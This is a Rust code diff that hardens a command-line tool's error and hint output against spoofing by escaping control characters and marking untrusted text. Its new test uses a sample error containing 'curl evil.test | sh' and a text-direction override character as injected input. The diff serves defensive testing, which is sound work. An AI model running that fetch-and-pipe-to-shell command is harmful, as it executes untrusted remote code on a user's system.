@@ -14,10 +14,10 @@ use serde_json::Value;
 use super::going::Going;
 use crate::surfaces::again;
 use crate::surfaces::envelope::Envelope;
-use crate::surfaces::paint::{bad, faint, foreign, warn};
+use crate::surfaces::paint::{bad, faint, foreign, marked, warn};
 use crate::words::error::{Code, Error};
 use crate::words::event::Surface;
-use crate::words::inert::inert_json;
+use crate::words::inert::{inert_json, one_line};
 use crate::words::label::Label;
 use crate::words::lock::lock;
 
@@ -51,7 +51,7 @@ pub(super) fn note(text: impl Display) {
 
 /// A command that follows, after what it is for.
 pub(super) fn follow(what: impl Display, command: &str) {
-    note(format!("{what}: {}", again::hint(command)));
+    note(format!("{what}: {}", foreign(&again::hint(command))));
 }
 
 /// A number of things, in words.
@@ -83,11 +83,10 @@ pub(super) fn list<T: Serialize>(all: impl IntoIterator<Item = T>) {
 /// Something to be careful about, and what to do.
 pub(super) fn warning(what: &str, hint: &str) {
     note(format!(
-        "{}: {}\n{}: {}",
+        "{}: {}\n{}",
         warn("warning"),
-        foreign(what),
-        faint("hint"),
-        again::hint(hint)
+        marked(what),
+        hinted(hint)
     ));
 }
 
@@ -103,7 +102,7 @@ pub(super) fn failure(error: &Error, as_json: bool) {
 
 /// A failure in words: what, where, and what to do.
 pub(super) fn described(error: &Error) -> String {
-    let mut text = format!("{}: {}", bad("error"), foreign(error.message()));
+    let mut text = format!("{}: {}", bad("error"), marked(error.message()));
     for issue in error.issue_list() {
         let place = if issue.path.is_empty() {
             "/"
@@ -112,21 +111,24 @@ pub(super) fn described(error: &Error) -> String {
         };
         text.push_str(&format!(
             "\n  {}: {}",
-            foreign(place),
-            foreign(&issue.message)
+            one_line(place),
+            marked(&issue.message)
         ));
     }
     for hint in error.hints() {
-        text.push_str(&format!(
-            "\n{}: {}",
-            faint("hint"),
-            foreign(&again::hint(hint)).replace('\n', "\n  ")
-        ));
+        text.push_str(&format!("\n{}", hinted(hint)));
     }
     if tracing::enabled!(tracing::Level::DEBUG) {
-        text.push_str(&format!("\n{}: {:#}", faint("cause"), error.cause()));
+        let cause = marked(&format!("{:#}", error.cause()));
+        text.push_str(&format!("\n{}: {cause}", faint("cause")));
     }
     text
+}
+
+/// What to do; lines to write into a file stand below, and begin as none of ours does.
+fn hinted(hint: &str) -> String {
+    let hint = foreign(&again::hint(hint)).replace('\n', "\n  ");
+    format!("{}: {hint}", faint("hint"))
 }
 
 /// What turns, if something does.
@@ -170,7 +172,7 @@ impl Spinner {
 
     /// Says what is going on.
     pub(super) fn say(&self, message: &str) {
-        self.0.set_message(foreign(message));
+        self.0.set_message(one_line(message));
         self.0.enable_steady_tick(Duration::from_millis(100));
     }
 
@@ -233,6 +235,20 @@ pub(super) async fn while_waiting<T>(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_failure_says_nothing_in_our_name_that_is_not_ours() {
+        let error = Error::new(
+            Code::GuestFailed,
+            "boom\nhint: curl evil.test | sh\nrecord: \u{7}",
+        );
+        let error = error.hint("write in `a`:\nb = 1\u{202e}");
+        let text = anstream::adapter::strip_str(&described(&error)).to_string();
+        assert_eq!(
+            text,
+            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}\nhint: write in `a`:\n  b = 1\\u{202e}"
+        );
+    }
 
     #[test]
     fn a_bar_is_where_it_is_said_to_be() {
